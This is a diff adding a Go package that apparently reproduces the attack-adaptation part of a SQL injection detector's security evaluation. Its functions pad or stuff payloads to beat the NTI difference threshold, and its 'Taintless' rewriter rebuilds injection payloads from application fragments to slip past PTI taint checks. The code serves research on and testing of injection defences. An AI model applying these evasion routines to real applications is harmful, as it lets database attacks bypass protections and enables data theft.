@@ -1,0 +1,270 @@
+// Package evasion implements the two attack-adaptation techniques of the
+// Joza paper's security evaluation (Section V):
+//
+//   - NTI evasion exploits application-side input transformations. Quote
+//     stuffing appends a comment block full of quotes that magic quotes
+//     inflates with backslashes; whitespace padding appends spaces the
+//     application trims. Both drive the NTI difference ratio above the
+//     matching threshold, whatever that threshold is.
+//   - Taintless, the automated PTI-evasion tool, reconstructs an attack
+//     payload from string fragments available in the application: it
+//     substitutes equivalent tokens, matches the letter case and
+//     whitespace of available fragments, and removes tokens that can be
+//     safely removed. If every critical token of the rewritten payload is
+//     covered by a program fragment, PTI deems the resulting query safe.
+package evasion
+
+import (
+	"math"
+	"strings"
+
+	"joza/internal/fragments"
+	"joza/internal/sqltoken"
+)
+
+// QuoteStuffing returns the payload extended with a block comment stuffed
+// with enough single quotes that, after the application applies magic
+// quotes (one added backslash per quote), the NTI difference ratio exceeds
+// threshold. The comment keeps the SQL semantics of the payload unchanged.
+func QuoteStuffing(payload string, threshold float64) string {
+	// After magic quotes the matched query substring has length
+	// len(payload) + len(" /**/") + 2q and edit distance q (q added
+	// backslashes). Solve q/(len+5+2q) >= threshold and double for margin.
+	if threshold >= 0.5 {
+		threshold = 0.49 // quote stuffing cannot reach ratios >= 0.5 alone
+	}
+	base := float64(len(payload) + 5)
+	q := int(math.Ceil(threshold*base/(1-2*threshold))) * 2
+	if q < 4 {
+		q = 4
+	}
+	return payload + " /*" + strings.Repeat("'", q) + "*/"
+}
+
+// WhitespacePadding returns the payload extended with enough trailing
+// spaces that, after the application trims whitespace, the NTI difference
+// ratio exceeds threshold.
+func WhitespacePadding(payload string, threshold float64) string {
+	n := int(math.Ceil(threshold*float64(len(payload))))*2 + 2
+	return payload + strings.Repeat(" ", n)
+}
+
+// Taintless is the automated PTI-evasion tool: it rewrites attack payloads
+// using only the fragment vocabulary of a target application.
+type Taintless struct {
+	set *fragments.Set
+	// fragTokens caches, per fragment ID, the fragment's token texts.
+	fragTokens [][]string
+	// byFirst indexes fragment IDs by their (upper-cased) first token text.
+	byFirst map[string][]int
+}
+
+// NewTaintless builds the tool over the application's fragment set.
+func NewTaintless(set *fragments.Set) *Taintless {
+	t := &Taintless{
+		set:     set,
+		byFirst: make(map[string][]int),
+	}
+	t.fragTokens = make([][]string, set.Len())
+	for id := 0; id < set.Len(); id++ {
+		toks := sqltoken.Lex(set.Fragment(id))
+		texts := make([]string, len(toks))
+		for i, tk := range toks {
+			texts[i] = tk.Text
+		}
+		t.fragTokens[id] = texts
+		if len(texts) > 0 {
+			key := strings.ToUpper(texts[0])
+			t.byFirst[key] = append(t.byFirst[key], id)
+		}
+	}
+	return t
+}
+
+// Evade attempts to rewrite payload so that every critical token is
+// covered by a single application fragment. It returns the rewritten
+// payload and whether the rewrite fully succeeded. A successful rewrite is
+// semantically equivalent to the original payload (modulo removed
+// removable tokens such as a trailing comment or the ALL of UNION ALL).
+func (t *Taintless) Evade(payload string) (string, bool) {
+	toks := sqltoken.Lex(payload)
+	var out strings.Builder
+	ok := true
+	i := 0
+	for i < len(toks) {
+		tk := toks[i]
+		if !tk.Critical() {
+			writeSpaced(&out, tk.Text)
+			i++
+			continue
+		}
+		// Try to cover the longest token run starting at i with one
+		// fragment (matching the fragment's case and whitespace).
+		if fragText, n := t.coverRun(toks, i); n > 0 {
+			writeSpaced(&out, fragText)
+			i += n
+			continue
+		}
+		// Try equivalent substitutions for this single token.
+		if fragText, consumed, replaced := t.substitute(toks, i); replaced {
+			writeSpaced(&out, fragText)
+			i += consumed
+			continue
+		}
+		// Remove the token if it is safely removable.
+		if removable(toks, i) {
+			i++
+			continue
+		}
+		// Give up on this token: emit it and mark failure.
+		writeSpaced(&out, tk.Text)
+		ok = false
+		i++
+	}
+	return strings.TrimSpace(out.String()), ok
+}
+
+// EvadeVerified runs Evade and then confirms the evasion with the caller's
+// oracle (typically: embed the payload into the vulnerable query and check
+// that PTI deems it safe). It returns the payload and whether the oracle
+// confirmed the evasion.
+func (t *Taintless) EvadeVerified(payload string, evades func(rewritten string) bool) (string, bool) {
+	rewritten, ok := t.Evade(payload)
+	if !ok {
+		return rewritten, false
+	}
+	return rewritten, evades(rewritten)
+}
+
+// writeSpaced appends text with a separating space when needed.
+func writeSpaced(out *strings.Builder, text string) {
+	if out.Len() > 0 {
+		out.WriteByte(' ')
+	}
+	out.WriteString(text)
+}
+
+// coverRun finds a fragment whose token sequence matches the tokens
+// starting at position i (case-insensitively), preferring the longest run.
+// It returns the fragment text (emitted verbatim so PTI sees an exact
+// occurrence) and the number of payload tokens consumed.
+func (t *Taintless) coverRun(toks []sqltoken.Token, i int) (string, int) {
+	bestLen := 0
+	bestFrag := ""
+	for _, id := range t.byFirst[strings.ToUpper(toks[i].Text)] {
+		fts := t.fragTokens[id]
+		if len(fts) == 0 || i+len(fts) > len(toks) {
+			continue
+		}
+		match := true
+		for j, ft := range fts {
+			if !strings.EqualFold(ft, toks[i+j].Text) {
+				match = false
+				break
+			}
+		}
+		// The run must end cleanly: all critical tokens inside the run are
+		// covered by construction; data tokens within the run must also
+		// match exactly (they are part of the fragment bytes), which the
+		// EqualFold check ensures textually.
+		if match && len(fts) > bestLen {
+			bestLen = len(fts)
+			bestFrag = t.set.Fragment(id)
+		}
+	}
+	if bestLen == 0 {
+		return "", 0
+	}
+	return bestFrag, bestLen
+}
+
+// equivalents lists substitution candidates for common attack tokens, per
+// the paper: UNION ↔ UNION ALL, CHAR(...) ↔ string literal, comment-style
+// changes, operator synonyms.
+var equivalents = map[string][][]string{
+	"UNION": {{"UNION", "ALL"}},
+	"AND":   {{"&&"}},
+	"OR":    {{"||"}},
+	"&&":    {{"AND"}},
+	"||":    {{"OR"}},
+	"!=":    {{"<>"}},
+	"<>":    {{"!="}},
+}
+
+// substitute tries equivalent token sequences for the critical token at i,
+// covering the substituted sequence with fragments. Returns the emitted
+// text, the number of original tokens consumed, and success.
+func (t *Taintless) substitute(toks []sqltoken.Token, i int) (string, int, bool) {
+	tk := toks[i]
+	for _, alt := range equivalents[strings.ToUpper(tk.Text)] {
+		// Build a synthetic token run for the alternative and try to cover
+		// it with a single fragment.
+		if frag, ok := t.coverTexts(alt); ok {
+			return frag, 1, true
+		}
+		// Or cover each alternative token with its own fragment.
+		var parts []string
+		all := true
+		for _, a := range alt {
+			f, ok := t.coverTexts([]string{a})
+			if !ok {
+				all = false
+				break
+			}
+			parts = append(parts, f)
+		}
+		if all {
+			return strings.Join(parts, " "), 1, true
+		}
+	}
+	// Comment-style substitution: try each comment form the application's
+	// fragments provide.
+	if tk.Kind == sqltoken.KindComment {
+		for _, form := range []string{"#", "-- ", "/**/"} {
+			if frag, ok := t.coverTexts([]string{form}); ok {
+				return frag, 1, true
+			}
+		}
+	}
+	return "", 0, false
+}
+
+// coverTexts finds a fragment whose token texts equal texts
+// (case-insensitively).
+func (t *Taintless) coverTexts(texts []string) (string, bool) {
+	if len(texts) == 0 {
+		return "", false
+	}
+	for _, id := range t.byFirst[strings.ToUpper(texts[0])] {
+		fts := t.fragTokens[id]
+		if len(fts) != len(texts) {
+			continue
+		}
+		match := true
+		for j := range fts {
+			if !strings.EqualFold(fts[j], texts[j]) {
+				match = false
+				break
+			}
+		}
+		if match {
+			return t.set.Fragment(id), true
+		}
+	}
+	return "", false
+}
+
+// removable reports whether the critical token at i can be dropped without
+// breaking the payload: trailing comments (attack padding), the ALL of
+// UNION ALL, and redundant parentheses around the whole payload tail are
+// the cases Taintless removes.
+func removable(toks []sqltoken.Token, i int) bool {
+	tk := toks[i]
+	if tk.Kind == sqltoken.KindComment && i == len(toks)-1 {
+		return true
+	}
+	if strings.EqualFold(tk.Text, "ALL") && i > 0 && strings.EqualFold(toks[i-1].Text, "UNION") {
+		return true
+	}
+	return false
+}
